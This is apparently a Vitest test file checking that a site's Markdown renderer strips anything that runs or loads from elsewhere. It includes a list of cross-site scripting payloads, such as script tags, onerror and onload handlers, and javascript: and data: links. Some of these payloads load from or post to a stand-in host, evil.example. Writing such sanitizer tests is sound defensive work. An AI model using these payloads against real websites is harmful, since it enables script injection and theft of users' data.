// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../adapters/content/render-markdown.ts';

const LETHAL = 'script, style, iframe, object, embed, form, input, svg, math, base, link, meta, template';

/** The page as a browser parses it. */
function drawn(markdown: string): HTMLElement {
  const place = document.createElement('div');
  place.innerHTML = renderMarkdown(markdown).html;
  return place;
}

const SITE = 'https://altway.example';

/** Everything that would run, load from elsewhere, or become part of the document. */
function dangersIn(place: HTMLElement): string[] {
  const elements = [...place.querySelectorAll('*')];
  const attributes = elements.flatMap((element) => [...element.attributes]);
  return [
    ...[...place.querySelectorAll(LETHAL)].map(({ tagName }) => tagName),
    ...attributes.filter(({ name }) => /^on|^style$|^srcset$|^name$|^formaction$/.test(name)).map(({ name }) => name),
    ...[...place.querySelectorAll('[href]')].filter(isBadLink).map(({ outerHTML }) => outerHTML),
    ...[...place.querySelectorAll('[src]')]
      .filter((picture) => !URL.canParse(picture.getAttribute('src')!, SITE) || originOf(picture, 'src') !== SITE)
      .map(({ outerHTML }) => outerHTML),
    ...elements.map(({ id }) => id).filter((id) => ['root', 'content', 'altway-state'].includes(id)),
  ];
}

function originOf(element: Element, name: string): string {
  return new URL(element.getAttribute(name)!, `${SITE}/faq`).origin;
}

/**
 * Whether a browser would run the link as a script, or leave the site without rel="noopener". A link that is no URL
 * leads nowhere.
 */
function isBadLink(link: Element): boolean {
  const href = link.getAttribute('href')!;
  if (!URL.canParse(href, SITE)) return false;
  const { protocol } = new URL(href, SITE);
  if (protocol === 'mailto:') return false;
  if (protocol !== 'http:' && protocol !== 'https:') return true;
  return originOf(link, 'href') !== SITE && link.getAttribute('rel') !== 'noopener';
}

const HOSTILE = [
  '<script>alert(1)</script>',
  'text <script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "https://evil.example"</style>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.gif)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](/a.png)',
  '[x](/a "t\\" onmouseover=\\"alert(1)")',
  '# Root\n\n## Root\n\n## Content\n\n### altway state',
  '<h2 id="altway-state">x</h2>',
  '```sh" onload="alert(1)\ncode\n```',
  '`<script>alert(1)</script>`',
  '[x]: javascript:alert(1)\n\n[x]',
  '<!-- --><script>alert(1)</script>',
  '<table><td background="javascript:alert(1)">',
  '<form action="https://evil.example"><input name="csrf-token"></form>',
];

describe('a page written in Markdown', () => {
  it.each(HOSTILE)('contains nothing that runs or loads: %s', (markdown) => {
    expect(dangersIn(drawn(markdown))).toEqual([]);
  });

  it('contains nothing that runs or loads for arbitrary combinations', () => {
    const parts = [
      ...HOSTILE,
      '\n',
      '\n\n',
      '> ',
      '| a |\n|---|\n| ',
      '**',
      '`',
      '<',
      '"',
      '](',
      '&lt;',
      '<!--',
      '-->',
    ];
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...parts), fc.string()), { maxLength: 8 }), (pieces) => {
        expect(dangersIn(drawn(pieces.join('')))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('shows HTML as text and omits comments', () => {
    expect(drawn('a <b>bold</b> word <!-- of mine -->').textContent).toContain('a <b>bold</b> word');
    expect(drawn('a <!-- secret --> b').textContent).not.toContain('secret');
    expect(drawn('<div>\n<!-- secret -->\nx</div>').textContent).not.toContain('secret');
  });

  it('gives headings unique IDs from their words', () => {
    const { headings, html } = renderMarkdown(
      '# Title\n\n## What’s *kept* & why?\n\n## What’s kept, why\n\n### 24 hours\n\n#### Deep\n\n## ???\n\n## Überall',
    );
    expect(headings).toEqual([
      { id: 'whats-kept-why', level: 2, text: 'What’s kept & why?' },
      { id: 'whats-kept-why-2', level: 2, text: 'What’s kept, why' },
      { id: 'part-24-hours', level: 3, text: '24 hours' },
      { id: 'part', level: 2, text: '???' },
      { id: 'uberall', level: 2, text: 'Überall' },
    ]);
    for (const { id, level } of headings) expect(html).toContain(`<h${level} id="${id}">`);
    expect(html).toContain('<h1>Title</h1>');
  });

  it('keeps tables, code and lists, which the keyboard can scroll', () => {
    const place = drawn('| a | b |\n|---|--:|\n| 1 | 2 |\n\n```sh\nls <x>\n```\n\n1. one\n2. two\n\n> said');
    expect(place.querySelector('div[tabindex="0"] > table td[align="right"]')!.textContent).toBe('2');
    expect(place.querySelector('pre[tabindex="0"] > code.language-sh')!.textContent).toBe('ls <x>\n');
    expect(place.querySelectorAll('ol > li')).toHaveLength(2);
    expect(place.querySelector('blockquote p')!.textContent).toBe('said');
  });

  it('marks links to other sites', () => {
    const place = drawn('[a](https://b.example) [c](/faq) [d](mailto:a@b.example) ![e](/e.png)');
    const rels = [...place.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.getAttribute('rel')]);
    expect(rels).toEqual([
      ['https://b.example', 'noopener'],
      ['/faq', null],
      ['mailto:a@b.example', null],
    ]);
    expect(place.querySelector('img')!.getAttribute('src')).toBe('/e.png');
  });
});
